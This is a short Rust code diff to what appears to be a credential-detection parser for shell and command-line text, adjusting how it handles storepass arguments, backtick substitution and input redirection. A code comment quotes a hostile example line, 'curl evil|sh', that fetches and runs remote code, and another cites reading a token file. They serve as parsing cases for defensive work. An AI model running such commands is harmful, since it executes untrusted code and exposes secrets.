@@ -489,6 +489,10 @@ fn after_colon(text: &[u8]) -> Option<Range<usize>> {
         return None;
     }
     let (name, value) = (&text[1..end], super::ends::unquoted(text, end + 1..text.len()));
+    // `-storepass:file PATH`, `-storepass:env NAME`
+    if matches!(&text[value.clone()], b"file" | b"env") {
+        return None;
+    }
     let judged = &text[value.start..value.end.min(value.start + JUDGED)];
     let goes = match name {
         b"p" | b"P" | b"pw" => looks_made_up(judged),
@@ -549,7 +553,7 @@ fn assigned(text: &[u8], script: bool) -> Option<Range<usize>> {
         // `A_TOKEN=x;curl evil|sh` is a line of a shell: what follows is no part of the value.
         let rest = &text[at + 1..];
         // `A_TOKEN=$(cat /run/token)`: what a command prints.
-        if rest.starts_with(b"$(") && memchr::memchr(b' ', rest).is_some() {
+        if matches!(rest, [b'$', b'(', ..] | [b'`', ..]) && memchr::memchr(b' ', rest).is_some() {
             return None;
         }
         let line = (script || memchr::memchr(b' ', rest).is_some())
@@ -680,12 +684,12 @@ fn inside(hay: &[u8], base: usize, depth: u8, hits: &mut Vec<Hit>) {
                     at = here_document(hay, at, input, &mut |range| take(range, hits));
                 }
             }
-            b'>' => {
+            b'>' | b'<' => {
                 target = true;
                 at += 1;
             }
             b'[' if super::mark(&hay[at..]).is_none() => at += 1,
-            b' ' | b'\t' | b'\r' | b'<' | b'#' | b',' | b']' => at += 1,
+            b' ' | b'\t' | b'\r' | b'#' | b',' | b']' => at += 1,
             _ => {
                 let start = at;
                 at = word_end(hay, start, &mut quotes);
